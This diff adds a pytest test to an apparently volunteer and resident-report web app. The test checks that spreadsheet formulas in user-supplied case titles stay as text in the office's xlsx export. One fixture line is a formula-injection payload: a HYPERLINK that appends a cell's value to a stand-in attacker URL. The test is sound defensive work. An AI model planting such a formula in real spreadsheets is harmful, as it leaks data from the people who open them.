@@ -140,3 +140,20 @@ def test_a_volunteer_claims_a_wish_on_their_page(app, api, web_world, v1_web):
     resp = v1_web.post(f"/me/wishes/{wish['id']}/claim", {"version": "1"}, page="/me")
     assert resp.status_code == 409
     assert v1_web.post("/me/wishes/nope/claim", {"version": "1"}, page="/me").status_code == 404
+
+
+def test_a_reported_formula_stays_text_in_the_case_export(office_web, api):
+    from openpyxl import load_workbook
+
+    """A resident's title (or a resolution) starting with "=" would otherwise be written
+    as a formula and run in the office's Excel."""
+    code = report_code(api)
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"点我")'
+    case_id, _ = new_report(api, code, title=evil)
+    api.ok(api.post(f"/cases/{case_id}/cancel", {"reason": "=1+1"}))
+    resp = office_web.client.get("/admin/reports/cases.xlsx?grid=c1")
+    assert resp.status_code == 200
+    cases = load_workbook(io.BytesIO(resp.data)).worksheets[2]
+    cells = [c for row in cases.iter_rows(min_row=2) for c in row]
+    assert {c.value for c in cells if c.data_type == "f"} == set()
+    assert evil in {c.value for c in cells} and "=1+1" in {c.value for c in cells}
